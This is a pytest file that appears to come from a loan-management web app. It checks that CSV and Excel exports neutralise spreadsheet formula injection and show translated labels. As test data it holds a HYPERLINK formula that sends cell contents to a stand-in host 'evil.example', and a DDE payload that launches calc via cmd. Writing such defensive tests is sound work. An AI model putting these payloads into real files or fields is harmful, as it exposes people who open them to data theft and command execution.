"""The exports (CSV, Excel) neutralise formulas and speak the reader's language (SPEC §10, §16.6; issue 13 finding
13): a customer named ``=HYPERLINK(…)`` stays a name in the manager's files, numbers stay numbers, and headers and
values are labels, not codes. Read back the way a spreadsheet would: csv and openpyxl."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from applications.models import Loan, Status
from loancenter.lib.dates import today
from loancenter.lib.export import csv_cell, neutralise
from postloan.models import BatchRun
from tests.factories import CustomerFactory, LoanFactory

URL = "/reports/loans/"
BOOK = today() - timedelta(days=1)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.fixture
def planted(staff, product):
    """An overdue loan whose customer's name is a formula."""
    BatchRun.objects.create(as_of=BOOK, status=BatchRun.DONE)
    customer = CustomerFactory(officer=staff.mkt, name=FORMULA)
    loan = LoanFactory(customer=customer, product=product, marketing_officer=staff.mkt)
    Loan.objects.filter(pk=loan.pk).update(status=Status.ACTIVE, grade="substandard", collection_tier="T3",
                                           oldest_unpaid_due=BOOK - timedelta(days=120),
                                           outstanding_principal=Decimal("80000.00"), provision=Decimal("20000.00"))
    return Loan.objects.select_related("customer", "product").get(pk=loan.pk)


def export(client, fmt: str, language: str | None = None):
    if language:
        client.cookies["django_language"] = language
    response = client.get(URL, {"status": "active", "format": fmt})
    assert response.status_code == 200
    return response


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.sidedoor(rule="export", path="browser: GET /reports/loans/?format=csv")
def test_a_formula_in_a_customer_name_is_text_in_the_csv(client, staff, planted):
    client.force_login(staff.boss)
    header, row = csv_rows(export(client, "csv"))
    assert row[header.index("Customer")] == "'" + FORMULA


@pytest.mark.sidedoor(rule="export", path="browser: GET /reports/loans/?format=xlsx")
def test_a_formula_in_a_customer_name_is_text_in_the_excel_file(client, staff, planted):
    client.force_login(staff.boss)
    response = export(client, "xlsx")
    sheet = xlsx_sheet(response)
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Customer") + 1)
    assert cell.value == "'" + FORMULA
    assert cell.data_type == "s"
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml  # the text is there; no cell is a formula


@pytest.mark.parametrize("name", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_every_formula_start_is_neutralised(client, staff, planted, name):
    planted.customer.name = name
    planted.customer.save(update_fields=["name"])
    client.force_login(staff.boss)
    header, row = csv_rows(export(client, "csv"))
    assert row[header.index("Customer")] == "'" + name
    sheet = xlsx_sheet(export(client, "xlsx"))
    value = sheet.cell(row=2, column=header.index("Customer") + 1).value
    assert value == "'" + name.replace("\r", "\n")  # XML reads a carriage return back as a line feed


def test_numbers_stay_numbers(client, staff, planted):
    client.force_login(staff.boss)
    sheet = xlsx_sheet(export(client, "xlsx"))
    header = [c.value for c in sheet[1]]
    row = {h: c.value for h, c in zip(header, sheet[2], strict=True)}
    assert row["Outstanding principal"] == 80000 and row["Provision"] == 20000
    assert row["Days past due"] == 120
    header, line = csv_rows(export(client, "csv"))
    assert line[header.index("Outstanding principal")] == "80000.00"
    # A negative number is a number, not a formula to neutralise (SPEC §16.6); text that looks like one is text.
    assert (csv_cell(Decimal("-12.50")), csv_cell(-3), csv_cell("-3")) == ("-12.50", "-3", "'-3")
    assert neutralise("张伟") == "张伟"


def test_headers_and_values_are_labels_in_english(client, staff, planted):
    client.force_login(staff.boss)
    header, row = csv_rows(export(client, "csv", "en"))
    assert header[:5] == ["Application no.", "Customer", "Product", "Marketing officer", "Status"]
    values = dict(zip(header, row, strict=True))
    assert values["Status"] == "Active"
    assert values["Grade"] == "Substandard"
    assert values["Collection tier"] == "T3 (over 90 days overdue)"
    assert values["Product"] == planted.product.name
    assert values["Marketing officer"] == staff.mkt.display


def test_headers_and_values_are_labels_in_chinese(client, staff, planted):
    client.force_login(staff.boss)
    sheet = xlsx_sheet(export(client, "xlsx", "zh-hans"))
    header = [c.value for c in sheet[1]]
    row = {h: c.value for h, c in zip(header, sheet[2], strict=True)}
    assert header[:5] == ["申请编号", "客户", "产品", "客户经理", "状态"]
    assert row["状态"] == "还款中"
    assert row["分类"] == "次级"
    assert "active" not in row.values() and "substandard" not in row.values() and "T3" not in row.values()
